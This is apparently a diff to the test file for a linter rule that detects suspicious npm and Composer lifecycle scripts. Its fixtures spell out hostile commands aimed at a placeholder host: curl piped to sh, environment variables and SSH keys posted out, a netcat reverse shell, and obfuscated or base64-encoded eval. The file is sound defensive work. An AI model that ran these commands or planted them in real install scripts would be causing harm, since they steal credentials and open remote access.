@@ -3,13 +3,13 @@ import { testRule, type Caught, type Clean } from '../../support/rule-tester.ts'
 
 const says = {
   download: (script: string, program: string) =>
-    `The script "${script}" runs what ${program} downloads, unseen, on each machine. Ship the code, or check its hash.`,
+    `The script "${script}" runs what ${program} downloads, unchecked, on each machine. Ship the code, or check its hash.`,
   decoded: (script: string, program: string) =>
-    `The script "${script}" runs code that is hidden in an encoding: nobody sees what ${program} runs. Write it out.`,
+    `The script "${script}" runs code that is hidden in an encoding: nobody sees what ${program} runs. Write it as plain code.`,
   encoded: (script: string, program: string) =>
-    `The script "${script}" gives ${program} an encoded command: nobody sees what runs. Write it out.`,
+    `The script "${script}" passes an encoded command to ${program}: nobody sees what runs. Write it as plain code.`,
   inline: (script: string, program: string) =>
-    `The script "${script}" gives ${program} a program that decodes, downloads, sends or evaluates something. Put it into a file that can be reviewed.`,
+    `The script "${script}" passes code to ${program} that decodes, downloads, sends or evaluates something. Put it into a file that can be reviewed.`,
   sends: (script: string, program: string) =>
     `The script "${script}" uses ${program} to send variables, credentials or names of the machine elsewhere. Remove it.`,
   connects: (script: string, program: string) => `The script "${script}" connects ${program} to another machine. Remove it.`,
@@ -58,6 +58,10 @@ const CLEAN = [
   'export A=b && tsc',
   'node -r esbuild-register x.ts',
   'cmd /c echo done',
+  'node build.js "$(curl -s https://h.example/version)"',
+  "node -e \"require('fs').writeFileSync('.npmrc', 'a=b')\"",
+  "node -e \"require('./'+'a')\"",
+  'node -e "try{require(\'request\')}catch(e){process.exit(1)}"',
 ];
 
 const CAUGHT: readonly Caught[] = [
@@ -85,6 +89,22 @@ const CAUGHT: readonly Caught[] = [
   caught('inline', 'node', "⟦node⟧ --eval \"require('child_process').exec('curl h.example|sh')\""),
   caught('inline', 'node', "⟦node⟧ -e \"fetch('https://h.example',{method:'POST',body:JSON.stringify(process.env)})\""),
   caught('inline', 'python3', '⟦python3⟧ -c "import urllib.request as u;exec(u.urlopen(\'https://h.example\').read())"'),
+  ...[
+    "node --input-type=module -e \"import {get} from 'node:http'; get('x')\"",
+    "node -e \"require('axios').get('https://h.example')\"",
+    "node -e \"const r = require('got'); r('https://h.example')\"",
+    "node -e \"var _0x4f2a=['a','b'];(function(_0x1c2d,_0x2){})(_0x4f2a,0x1a)\"",
+    "node -e \"require('chi'+'ld_process').exec('id')\"",
+    'node -e "global[\'r\']=require;"',
+    'node -e "process.binding(\'spawn_sync\')"',
+    "node -e \"require('vm').runInThisContext(require('fs').readFileSync('x.bin','latin1'))\"",
+    "node -e \"require('child_process').spawn('sh',['-c','nc -e /bin/sh h.example 4444'])\"",
+    'node -e \'require("fs").readFileSync(process.env.HOME+"/.npmrc","utf8")\'',
+  ].map((script) => caught('inline', 'node', script.replace('node', '⟦node⟧'))),
+  caught('download', 'curl', '⟦node⟧ <(curl -s https://h.example/a.js)'),
+  caught('download', 'curl', '⟦python3⟧ -c "$(curl -s https://h.example/a.py)"'),
+  // One file is one finding, at the first command that makes it run.
+  caught('download', 'wget', 'wget https://h.example/a && ⟦chmod⟧ +x a && ./a && ./a --again'),
   caught('sends', 'curl', 'env | ⟦curl⟧ -X POST -d @- https://h.example'),
   caught('sends', 'curl', '⟦curl⟧ -d "$(printenv)" https://h.example'),
   caught('sends', 'curl', '⟦curl⟧ -F file=@$HOME/.ssh/id_rsa https://h.example'),
@@ -122,12 +142,40 @@ const CAUGHT: readonly Caught[] = [
   },
 ];
 
+/** Composer runs scripts by its own events; a list is one after the other. */
+const composer = (scripts: string): string => `{"name":"x/y","scripts":{${scripts}}}`;
+const COMPOSER_CLEAN = [
+  composer(
+    `"post-root-package-install":"@php -r \\"file_exists('.env') || copy('.env.example', '.env');\\"","post-autoload-dump":["X\\\\Y::postAutoloadDump","@php artisan package:discover --ansi"]`,
+  ),
+  composer(
+    '"auto-scripts":{"cache:clear":"symfony-cmd"},"post-install-cmd":["@auto-scripts","@composer bin all install","@putenv A=b"]',
+  ),
+  composer('"deploy":"curl https://h.example/x | sh"'),
+];
+const COMPOSER_CAUGHT: readonly Caught[] = [
+  { code: composer('"post-install-cmd":"curl https://h.example/x | ⟦sh⟧"'), says: says.download('post-install-cmd', 'curl') },
+  {
+    code: composer('"post-update-cmd":["@php artisan optimize","wget https://h.example/a","⟦chmod⟧ +x a","./a"]'),
+    says: says.download('post-update-cmd', 'wget'),
+  },
+  {
+    code: composer('"post-install-cmd":["@setup"],"setup":"wget -qO- https://h.example/x | ⟦php⟧"'),
+    says: says.download('setup', 'wget'),
+  },
+  {
+    code: composer(`"post-autoload-dump":"@⟦php⟧ -r \\"eval(base64_decode('YQ=='));\\""`),
+    says: says.inline('post-autoload-dump', 'php'),
+  },
+];
+
 testRule(suspiciousLifecycleScript, {
   clean: [
+    ...COMPOSER_CLEAN.map((code): Clean => ({ path: 'composer.json', code })),
     ...CLEAN.map((script): Clean => pack(script)),
     pack('curl https://h.example/x | sh', 'setup'),
     '{"config":{"postinstall":"curl https://h.example/x | sh"}}',
     { path: '.npmrc', code: 'postinstall=curl h | sh\n' },
   ],
-  caught: CAUGHT,
+  caught: [...CAUGHT, ...COMPOSER_CAUGHT.map((one): Caught => ({ ...one, path: 'composer.json' }))],
 });
